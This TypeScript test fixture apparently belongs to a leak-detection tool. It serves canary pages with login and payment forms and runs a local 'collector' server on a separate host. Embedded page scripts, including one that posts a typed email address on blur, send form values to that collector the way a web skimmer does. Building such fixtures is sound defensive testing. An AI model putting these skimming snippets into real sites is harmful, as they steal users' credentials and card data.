import { createHash } from 'node:crypto';
import type { IncomingMessage, ServerResponse } from 'node:http';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import type { Duplex } from 'node:stream';
import { acceptHit, allowOrigin, answerWith } from '@vigie/demo-site/answers.ts';
import { listen } from '@vigie/demo-site/listen.ts';
import { CANARY_PAGES, type CanaryPage } from './canary-page.ts';

/** A request to a server: the page that sent it, and its bytes without irrelevant headers. */
export interface Arrived {
  page: string;
  bytes: Buffer;
}

export interface ServedCanary {
  origin: string;
  /** Returns requests to the collector. */
  leaked: () => Arrived[];
  /** Returns requests to the website that change data: forms, drafts and others. */
  sent: () => Arrived[];
  /** Returns the names of fields in which pages observed typing. */
  touched: () => Set<string>;
  close: () => Promise<void>;
}

/** A form with all fields that are filled and all that never are. */
const FORM = `<form action="/send" method="post"><label>E-mail <input name="email" type="email"></label>
<label>Téléphone <input name="tel" type="tel"></label><label>Prénom <input name="prenom"></label><label>Nom <input name="nom"></label>
<label>Mot de passe <input name="password" type="password"></label>
<label>Numéro de carte <input name="cardnumber" autocomplete="cc-number" type="tel"></label><label>Nom sur la carte <input name="cc-name"></label>
<label>IBAN <input name="iban"></label><label>Code postal <input name="zip" type="tel"></label><label>Rechercher <input name="q" type="text"></label>
<label>Pseudo <input name="username"></label><input name="mail2" type="email" style="position:absolute;left:-5000px">
<label>Déjà rempli <input name="filled_email" type="email" value="noreply@site.example"></label><button>Envoyer</button></form>`;

const html = (body: string) => answerWith({ type: 'text/html; charset=utf-8', body });

/** Serves pages under `/NAME`, with a collector on another host. */
export async function serveCanary(): Promise<ServedCanary> {
  const [leaked, sent]: [Arrived[], Arrived[]] = [[], []];
  const touched = new Set<string>();
  const collector = createServer((request, response) => void collect(request, response));
  collector.on('upgrade', (request, socket) =>
    answerSocket(request, socket, (bytes) => leaked.push({ page: 'socket', bytes })),
  );
  await new Promise<void>((resolve) => collector.listen(0, 'localhost', resolve));
  const elsewhere = `http://localhost:${(collector.address() as AddressInfo).port}`;
  const server = await listen((request, response) => void serve(request, response), {
    host: '127.0.0.1',
    port: 0,
  });

  async function collect(request: IncomingMessage, response: ServerResponse): Promise<void> {
    const { referer = '', 'x-page': page = '' } = request.headers;
    const body = await bytesOf(request);
    const url = new URL(request.url ?? '', elsewhere);
    const name = url.searchParams.get('page') ?? String(page);
    leaked.push({
      page: name || pageOf(referer),
      bytes: Buffer.concat([Buffer.from(`${request.url} ${referer} `), body]),
    });
    acceptHit(allowOrigin)(request, response);
  }

  async function serve(request: IncomingMessage, response: ServerResponse): Promise<void> {
    const { pathname, searchParams } = new URL(request.url ?? '', 'http://site.invalid');
    if (pathname === '/touched') touched.add(searchParams.get('name') ?? '');
    const page = CANARY_PAGES.find(({ name }) => pathname === `/${name}`);
    const frame = pathname === '/frame' ? ABANDONED_FRAME : undefined;
    const changes = request.method !== 'GET' || pathname === '/send';
    if (changes) sent.push({ page: pageOf(request.headers.referer ?? ''), bytes: await bytesOf(request) });
    const script = page?.script ?? frame?.script ?? '';
    const form = page?.form === 'frame' ? '<iframe src="/frame" width="600" height="500"></iframe>' : FORM;
    html(documentOf({ name: page?.name ?? 'in-frame', script, form, elsewhere }))(request, response);
  }

  return {
    origin: server.origin,
    leaked: () => leaked,
    sent: () => sent,
    touched: () => touched,
    async close() {
      collector.closeAllConnections();
      collector.close();
      await server.close();
    },
  };
}

const ABANDONED_FRAME = {
  script: `document.querySelector('[name=email]').addEventListener('blur', ({ target }) => post('mail=' + encodeURIComponent(target.value)));`,
};

function documentOf({
  name,
  script,
  form,
  elsewhere,
}: Pick<CanaryPage, 'name' | 'script'> & { form: string; elsewhere: string }): string {
  return `<!doctype html><html lang="fr"><title>${name}</title>${form}<iframe name="sink" hidden></iframe><script>
const COLLECTOR = ${JSON.stringify(elsewhere)};
const fields = document.querySelectorAll('input');
const pixel = (query) => { new Image().src = COLLECTOR + '/i' + query + '&page=${name}'; };
const post = (body) => fetch(COLLECTOR + '/p?page=${name}', { method: 'POST', body, mode: 'no-cors', keepalive: true });
addEventListener('input', ({ target }) => fetch('/touched?name=' + target.name), true);
${script}</script></html>`;
}

const pageOf = (referer: string): string => URL.parse(referer)?.pathname.slice(1) ?? '';

async function bytesOf(request: IncomingMessage): Promise<Buffer> {
  const parts: Buffer[] = [];
  for await (const part of request) parts.push(part as Buffer);
  return Buffer.concat(parts);
}

/** Answers a WebSocket (RFC 6455, sections 4.2.2 and 5.2): short, masked frames of a browser. */
function answerSocket(request: IncomingMessage, socket: Duplex, onMessage: (bytes: Buffer) => void): void {
  const key = `${request.headers['sec-websocket-key']}258EAFA5-E914-47DA-95CA-C5AB0DC85B11`;
  const accept = createHash('sha1').update(key).digest('base64');
  socket.on('error', () => socket.destroy());
  socket.write(
    `HTTP/1.1 101 Switching Protocols\r\nUpgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Accept: ${accept}\r\n\r\n`,
  );
  socket.on('data', (frame: Buffer) => {
    const length = (frame[1] ?? 0) & 0x7f;
    const mask = frame.subarray(2, 6);
    if (length < 126)
      onMessage(Buffer.from(frame.subarray(6, 6 + length).map((byte, at) => byte ^ (mask[at % 4] ?? 0))));
  });
}
